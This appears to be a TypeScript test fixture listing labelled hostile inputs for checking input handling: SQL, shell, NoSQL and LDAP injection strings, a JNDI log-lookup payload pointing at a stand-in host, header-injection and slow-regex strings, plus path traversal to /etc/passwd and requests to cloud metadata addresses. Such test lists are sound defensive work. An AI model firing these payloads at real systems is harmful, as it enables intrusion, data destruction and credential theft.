import { texts } from './hostile-input.ts'

/** What a database, a shell or a log would take for its own. */
export const databases = texts('command', [
  ['SQL that is always true', "' OR '1'='1"],
  ['SQL that drops', "'; DROP TABLE events; --"],
  ['SQL that joins', "' UNION SELECT passwordHash FROM users --"],
  ['SQL comment', '/* */ -- #'],
  ['SQL that sleeps', "'; SELECT pg_sleep(10); --"],
  ['SQL that attaches', "'; ATTACH DATABASE '/tmp/a' AS a; --"],
  ['SQL after a backslash', "\\'; --"],
  ['SQL with dollars', '$$; DROP TABLE events; $$'],
  ['SQL parameter', '$1 ? :a @b'],
  ['wildcards', '%_%'],
  ['pattern that takes long', 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!'],
  ['mail that takes long to match', `${'a@'.repeat(60)}a`],
  ['shell', '$(touch /tmp/hostile)'],
  ['shell with back quotes', '`touch /tmp/hostile`'],
  ['shell with a pipe', '| touch /tmp/hostile; &'],
  ['log lookup', '${jndi:ldap://elsewhere.invalid/a}'],
  ['header after a line', 'a\r\nset-cookie: session=a'],
  ['mail header after a line', 'a\r\nbcc: all@elsewhere.invalid'],
  ['calendar line', 'a\r\nBEGIN:VEVENT\r\nATTACH:https://elsewhere.invalid'],
  ['terminal colours', '\u001b[31m\u001b[2J'],
  ['format', '%s%s%n%x'],
  ['query of another kind', '{"$gt": ""}'],
  ['directory', '*)(uid=*))(|(uid=*'],
])

/** What a file system or a router would take for another place. */
export const paths = texts('path', [
  ['up', '../../../../etc/passwd'],
  ['up, Windows', '..\\..\\..\\windows\\win.ini'],
  ['up, encoded', '..%2f..%2fetc%2fpasswd'],
  ['up, encoded twice', '..%252f..%252fetc%252fpasswd'],
  ['up, full-width', '．．／．．／etc'],
  ['from the root', '/etc/passwd'],
  ['file address', 'file:///etc/passwd'],
  ['network share', '\\\\elsewhere.invalid\\a'],
  ['own address', 'http://127.0.0.1:3900/healthz'],
  ['cloud metadata', 'http://169.254.169.254/latest/meta-data/'],
  ['device', 'CON'],
  ['end of a name', 'a.pdf%00.html'],
  ['hidden', '.'],
  ['parent', '..'],
  ['double colon', 'unit:QH:2026::$DATA'],
])
